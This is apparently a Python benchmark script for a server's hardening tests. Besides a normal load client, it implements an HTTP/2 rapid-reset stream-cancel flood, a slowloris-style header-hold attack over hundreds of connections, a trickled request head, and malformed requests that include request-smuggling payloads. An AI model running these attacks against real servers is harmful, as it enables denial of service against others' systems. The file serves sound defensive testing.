#!/usr/bin/env python3
"""Clients for benches/hardening.sh: a well-behaved probe client, a header-hold attack, an HTTP/2
rapid-reset burst and the idle, keep-alive and malformed-request probes. Standard library only,
except `rapid-reset`, which needs the `h2` package (benches/hardening-requirements.txt); every
result is one JSON object on stdout.

  client URL --rate R --duration S [--timeout T] [--bucket-s B]
      R requests a second for S seconds, each on a new connection (as a browser's first request
      would, so it must get past whatever holds the connections). Success: a 200 within T.
      With B, also the successes and failures of each B-second window (by start time).
  rapid-reset HOST PORT --duration S [--streams-per-conn N] [--batch K] [--path P]
      h2c with prior knowledge: HEADERS then RST_STREAM(CANCEL) for stream after stream, K pairs
      per write, until the server ends the connection (GOAWAY or close) or N streams were sent;
      then a new connection, for S seconds. What each connection got and after how many streams.
  hold-headers HOST PORT --conns N --bytes B
      N connections each send B bytes of an unfinished request head, then wait for the answer.
  probes HOST PORT
      the idle connection, the trickled head and the malformed requests; what each got and when.
  keepalive HOST PORT
      one request, then the connection idles: how long until fulcrum closes it.
  row FILE
      a `client` result as the cells of a Markdown table row.
"""

import argparse
import http.client
import json
import select
import socket
import threading
import time
from concurrent.futures import ThreadPoolExecutor


def percentile(values, p):
    if not values:
        return None
    s = sorted(values)
    return s[min(len(s) - 1, int(round(p / 100 * (len(s) - 1))))]


def one_request(host, port, path, timeout):
    start = time.monotonic()
    try:
        c = http.client.HTTPConnection(host, port, timeout=timeout)
        c.request("GET", path, headers={"Connection": "close"})
        r = c.getresponse()
        r.read()
        c.close()
        return r.status == 200, time.monotonic() - start
    except (OSError, http.client.HTTPException):
        return False, time.monotonic() - start


def client(args):
    url = args.url.removeprefix("http://")
    hostport, _, path = url.partition("/")
    host, _, port = hostport.partition(":")
    path = "/" + path
    total = int(args.rate * args.duration)
    results = []
    lock = threading.Lock()

    def run(i):
        ok, took = one_request(host, int(port), path, args.timeout)
        with lock:
            results.append((ok, took, i / args.rate))

    start = time.monotonic()
    with ThreadPoolExecutor(max_workers=int(args.rate * args.timeout) + 8) as pool:
        for i in range(total):
            delay = start + i / args.rate - time.monotonic()
            if delay > 0:
                time.sleep(delay)
            pool.submit(run, i)
    ok = [t for good, t, _ in results if good]
    out = {
        "sent": total,
        "ok": len(ok),
        "failed": total - len(ok),
        "success_percent": round(100 * len(ok) / total, 2) if total else None,
        "p50_ms": round(1000 * percentile(ok, 50), 2) if ok else None,
        "p99_ms": round(1000 * percentile(ok, 99), 2) if ok else None,
        "max_ms": round(1000 * max(ok), 2) if ok else None,
    }
    if args.bucket_s:
        buckets = [[0, 0] for _ in range(int(-(-args.duration // args.bucket_s)))]
        for good, _, at in results:
            buckets[min(len(buckets) - 1, int(at // args.bucket_s))][0 if good else 1] += 1
        out["bucket_s"] = args.bucket_s
        out["buckets_ok_failed"] = buckets
    print(json.dumps(out))


def rapid_reset(args):
    import h2.config
    import h2.connection
    import h2.errors
    import h2.events
    import h2.exceptions

    headers = [(":method", "GET"), (":path", args.path), (":scheme", "http"),
               (":authority", f"{args.host}:{args.port}")]
    deadline = time.monotonic() + args.duration
    conns = []
    while time.monotonic() < deadline:
        conn = {"streams_sent": 0, "responses": 0, "ended_by": None}
        conns.append(conn)
        try:
            s = socket.create_connection((args.host, args.port), timeout=5)
        except OSError as e:
            conn["ended_by"] = f"connect failed ({e.__class__.__name__})"
            time.sleep(0.05)
            continue
        c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        c.initiate_connection()
        try:
            s.sendall(c.data_to_send())
            while conn["ended_by"] is None:
                if conn["streams_sent"] >= args.streams_per_conn or time.monotonic() >= deadline:
                    conn["ended_by"] = "the client (stream budget or time)"
                    break
                for _ in range(args.batch):
                    sid = c.get_next_available_stream_id()
                    c.send_headers(sid, headers, end_stream=True)
                    c.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
                    conn["streams_sent"] += 1
                s.sendall(c.data_to_send())
                while conn["ended_by"] is None and select.select([s], [], [], 0)[0]:
                    data = s.recv(65536)
                    if not data:
                        conn["ended_by"] = "close without GOAWAY"
                        break
                    for ev in c.receive_data(data):
                        if isinstance(ev, h2.events.ResponseReceived):
                            conn["responses"] += 1
                        elif isinstance(ev, h2.events.ConnectionTerminated):
                            code = ev.error_code
                            conn["ended_by"] = f"GOAWAY {getattr(code, 'name', code)}"
                            conn["goaway_last_stream_id"] = ev.last_stream_id
                    s.sendall(c.data_to_send())
        except h2.exceptions.ProtocolError as e:
            conn["ended_by"] = f"client-side protocol error ({e.__class__.__name__})"
        except OSError as e:
            conn["ended_by"] = f"send or receive failed ({e.__class__.__name__})"
        s.close()
    sent = [k["streams_sent"] for k in conns]
    ended = {}
    for k in conns:
        ended[k["ended_by"]] = ended.get(k["ended_by"], 0) + 1
    seen = [(k["goaway_last_stream_id"] + 1) // 2 for k in conns if "goaway_last_stream_id" in k]
    print(json.dumps({
        "duration_s": args.duration,
        "connections": len(conns),
        "streams_sent": sum(sent),
        "streams_per_connection_median": percentile(sent, 50),
        "streams_per_connection_max": max(sent) if sent else None,
        "connections_ended_by": ended,
        "streams_taken_before_goaway_median": percentile(seen, 50),
        "responses_received": sum(k["responses"] for k in conns),
    }))


def read_answer(s, timeout):
    """The status line of what the server sent before closing, or what happened instead."""
    s.settimeout(timeout)
    data = b""
    try:
        while True:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
    except socket.timeout:
        return "no answer, still open"
    except OSError as e:
        if not data:
            return f"reset ({e.__class__.__name__})"
    if not data:
        return "closed without an answer"
    return data.split(b"\r\n", 1)[0].decode("latin-1")


def hold_headers(args):
    conns = []
    for i in range(args.conns):
        s = socket.create_connection((args.host, args.port))
        head = b"GET /hold HTTP/1.1\r\nHost: x\r\n"
        line = b"X-Hold: " + b"a" * 1000 + b"\r\n"
        while len(head) + len(line) <= args.bytes:
            head += line
        try:
            s.sendall(head)
        except OSError:
            pass  # refused part-way (a peer with a smaller head buffer): its answer tells
        conns.append(s)
    sent = time.monotonic()
    answers = {}
    took = []
    for s in conns:
        a = read_answer(s, 30)
        took.append(time.monotonic() - sent)
        answers[a] = answers.get(a, 0) + 1
        s.close()
    print(json.dumps({"connections": args.conns, "bytes_each": args.bytes, "answers": answers,
                      "all_answered_after_s": round(max(took), 1)}))


def timed(host, port, send, trickle=None, timeout=30):
    s = socket.create_connection((host, port))
    start = time.monotonic()
    if send:
        s.sendall(send)
    if trickle:
        def drip():
            for i in range(100):
                time.sleep(trickle)
                try:
                    s.sendall(f"X-Trickle-{i}: a\r\n".encode())
                except OSError:
                    return
        threading.Thread(target=drip, daemon=True).start()
    answer = read_answer(s, timeout)
    s.close()
    return {"answer": answer, "after_s": round(time.monotonic() - start, 2)}


MALFORMED = {
    "GET / HTTP/1.1 without header lines": b"GET / HTTP/1.1\r\n\r\n",
    "OPTIONS / HTTP/1.0 (HAProxy's health check)": b"OPTIONS / HTTP/1.0\r\n\r\n",
    "Content-Length and Transfer-Encoding": b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
                                            b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked, chunked": b"POST / HTTP/1.1\r\nHost: x\r\n"
                                           b"Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n",
    "obs-fold": b"GET / HTTP/1.1\r\nHost: x\r\nX-A: 1\r\n  folded\r\n\r\n",
    "invalid chunk size": b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
                          b"zz\r\nabcd\r\n0\r\n\r\n",
    "request line of 16 KB": b"GET /" + b"a" * 16384 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    "head of 512 KB": b"GET / HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 524288 + b"\r\n\r\n",
}


def probes(args):
    out = {
        "a connection that sends nothing": timed(args.host, args.port, b""),
        "one header line every 2 s": timed(args.host, args.port,
                                           b"GET / HTTP/1.1\r\nHost: x\r\n", trickle=2),
    }
    for name, data in MALFORMED.items():
        out[name] = timed(args.host, args.port, data, timeout=10)
    print(json.dumps(out))


def keepalive(args):
    s = socket.create_connection((args.host, args.port))
    s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
    s.settimeout(10)
    first = s.recv(4096).split(b"\r\n", 1)[0].decode("latin-1")
    start = time.monotonic()
    rest = read_answer(s, 120)
    print(json.dumps({"first": first, "then": rest,
                      "idle_closed_after_s": round(time.monotonic() - start, 1)}))


def row(args):
    p = json.load(open(args.file))
    print(f"{p['ok']}/{p['sent']} ({p['success_percent']} %) | {p['p50_ms']} | {p['p99_ms']}")


def main():
    p = argparse.ArgumentParser(description=__doc__,
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="cmd", required=True)
    c = sub.add_parser("client")
    c.add_argument("url")
    c.add_argument("--rate", type=float, default=20)
    c.add_argument("--duration", type=float, default=10)
    c.add_argument("--timeout", type=float, default=5)
    c.add_argument("--bucket-s", type=float, default=0)
    rr = sub.add_parser("rapid-reset")
    rr.add_argument("host")
    rr.add_argument("port", type=int)
    rr.add_argument("--duration", type=float, default=20)
    rr.add_argument("--streams-per-conn", type=int, default=10000)
    rr.add_argument("--batch", type=int, default=100)
    rr.add_argument("--path", default="/rapid-reset")
    h = sub.add_parser("hold-headers")
    h.add_argument("host")
    h.add_argument("port", type=int)
    h.add_argument("--conns", type=int, default=300)
    h.add_argument("--bytes", type=int, default=60000)
    for name in ("probes", "keepalive"):
        q = sub.add_parser(name)
        q.add_argument("host")
        q.add_argument("port", type=int)
    r = sub.add_parser("row")
    r.add_argument("file")
    args = p.parse_args()
    {"row": row, "client": client, "hold-headers": hold_headers, "probes": probes,
     "keepalive": keepalive, "rapid-reset": rapid_reset}[args.cmd](args)


if __name__ == "__main__":
    main()
